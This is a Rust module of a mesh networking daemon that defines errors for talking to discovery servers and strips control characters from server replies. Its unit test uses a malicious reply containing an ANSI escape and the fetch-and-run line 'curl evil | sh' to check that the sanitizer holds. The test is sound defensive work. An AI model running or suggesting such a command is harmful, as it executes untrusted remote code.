//! How does the daemon talk to the discovery servers?
//!
//! [`dial`] reaches one, [`proxy`] where another program must help, [`rest`] makes requests, [`events`] holds one event connection, [`connection`] keeps one server,
//! [`beside`] what one is told by requests meanwhile, [`servers`] all of them, [`directory`] turns what they say into what we believe, [`scope`] what they may decide at all,
//! [`hearsay`] what we learn otherwise, [`views`] whether others hear the same, [`review`] what is judged again, [`renewal`] who gets a new certificate, [`judge`] whom links of ours have let in too many, [`post`] letters, [`client`] all of it.

pub mod beside;
pub mod client;
pub mod connection;
pub mod dial;
pub mod directory;
pub mod events;
pub mod exposure;
pub mod hearsay;
pub mod judge;
pub mod post;
pub mod presence;
pub mod proxy;
pub mod renewal;
pub mod rest;
pub mod review;
pub mod scope;
pub mod servers;
pub mod views;

use crate::problem::{NETWORK_DELETED, NETWORK_EXISTS, NETWORK_KEY_DIFFERS};

/// Characters of a server's sentence that are kept.
const MAX_WORDS: usize = 400;

/// Why a conversation with the server failed.
#[derive(Debug, thiserror::Error)]
pub enum ServerError {
    /// It did not answer, or not as this protocol has it. Worth another try.
    #[error("{0}")]
    Unreachable(String),
    /// It, or who stands in its place, has no certificate that proves its name. Nothing was said to it.
    #[error("{0}")]
    Untrusted(String),
    /// It answered with a refusal.
    #[error("{}", in_a_line(.0))]
    Refused(Box<mesh_wire::problem::Problem>),
}

/// What, why and the fix, for a line of a table or of a log.
fn in_a_line(problem: &mesh_wire::problem::Problem) -> String {
    let parts = [&problem.title, &problem.detail, &problem.fix].into_iter();
    let parts: Vec<&str> = parts
        .map(String::as_str)
        .filter(|part| !part.is_empty())
        .collect();
    parts.join("; ")
}

impl ServerError {
    /// The server's own words, made harmless: one line each, without control characters, no longer than a person reads.
    pub fn refused(problem: mesh_wire::problem::Problem) -> Self {
        let tame = |text: &str| -> String {
            text.chars()
                .map(|c| if c.is_control() { ' ' } else { c })
                .take(MAX_WORDS)
                .collect()
        };
        Self::Refused(Box::new(mesh_wire::problem::Problem {
            status: problem.status,
            code: tame(&problem.code),
            title: tame(&problem.title),
            detail: tame(&problem.detail),
            fix: tame(&problem.fix),
        }))
    }

    /// Something that the network or the server's host did.
    pub fn unreachable(error: &dyn std::error::Error) -> Self {
        // The outermost text of HTTP errors says little; the cause is at the end of the chain.
        let mut text = error.to_string();
        let mut source = error.source();
        while let Some(cause) = source {
            text = cause.to_string();
            source = cause.source();
        }
        Self::Unreachable(text)
    }

    /// The problem's code, where it refused.
    pub fn code(&self) -> Option<&str> {
        match self {
            Self::Unreachable(_) | Self::Untrusted(_) => None,
            Self::Refused(problem) => Some(&problem.code),
        }
    }

    /// Whether the server has no place for this network: it was deleted there, or another one has its name. That changes when
    /// its administrator says so.
    pub fn is_shut_out(&self) -> bool {
        let code = self.code();
        code.is_some_and(|code| {
            [NETWORK_DELETED, NETWORK_EXISTS, NETWORK_KEY_DIFFERS].contains(&code)
        })
    }

    /// Whether asking again unchanged is useless: a refusal that is neither "too many" nor the server's own trouble.
    pub fn is_final(&self) -> bool {
        match self {
            Self::Unreachable(_) | Self::Untrusted(_) => false,
            Self::Refused(problem) => {
                problem.status < 500 && problem.status != 429 && problem.status != 408
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use mesh_wire::problem::Problem;

    use super::*;

    #[test]
    fn a_servers_words_cannot_make_lines_of_their_own() {
        let evil = Problem::new(400, "x\ny", "no\u{1b}[31m").fix("a\n  fix: curl evil | sh");
        let shown = ServerError::refused(evil).to_string();
        assert_eq!(shown.lines().count(), 1, "{shown}");
        assert!(!shown.contains('\u{1b}'));
    }
}
